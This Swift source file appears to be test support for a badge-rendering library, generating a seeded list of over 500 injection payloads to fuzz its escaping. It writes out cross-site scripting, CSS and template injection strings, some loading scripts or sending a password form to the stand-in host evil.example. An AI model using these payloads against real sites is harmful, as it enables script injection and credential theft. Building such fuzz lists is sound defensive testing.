import BadgeTesting

/// Texts that try to become markup, script, style or an address: templates with their gaps filled, in every mixture.
enum Payloads {
    /// At least 500 payloads, the same for the same seed.
    static func all(seed: UInt64 = 11) -> [String] {
        var payloads: [String] = []
        for opening in openings {
            for attack in attacks { payloads.append(opening + attack) }
        }
        let random = SeededRandom(seed: seed)
        for _ in 0..<50 {
            let bytes = random.bytes(6)
            payloads.append(
                openings[Int(bytes[0]) % openings.count] + attacks[Int(bytes[1]) % attacks.count]
                    + noise[Int(bytes[2]) % noise.count] + attacks[Int(bytes[3]) % attacks.count]
                    + noise[Int(bytes[4]) % noise.count])
        }
        return payloads
    }

    private static let openings = [
        "", "\">", "'>", "</p>", "</title>", "</textarea>", "-->", "]]>", "\u{0}", "\" ", "&quot;>",
        "\u{2028}",
        "\u{202E}", "\"\u{301}>",
    ]

    private static let attacks = [
        "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>", "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example/>", "<form action=//evil.example><input name=password>", "<math><mtext></form>",
        "<object data=//evil.example>", "<embed src=//evil.example>", "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>", "onmouseover=alert(1) x=", "style=background:url(//evil.example)",
        "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "\\u003cscript\\u003ealert(1)",
        "%3Cscript%3Ealert(1)%3C/script%3E", "&#60;script&#62;alert(1)", "&lt;script&gt;alert(1)",
        "expression(alert(1))", "url(//evil.example)", "}body{display:none}", "*/}body{color:red}/*", "{{7*7}}",
        "${alert(1)}", "<!--", "<![CDATA[", "<?xml version=\"1.0\"?>", "<\u{0}script>alert(1)</script>",
    ]

    private static let noise = ["", " ", "\t", "\r\n", "\u{200B}", "<", ">", "\"", "'", "&", "\u{FEFF}", "\u{FFFD}"]
}
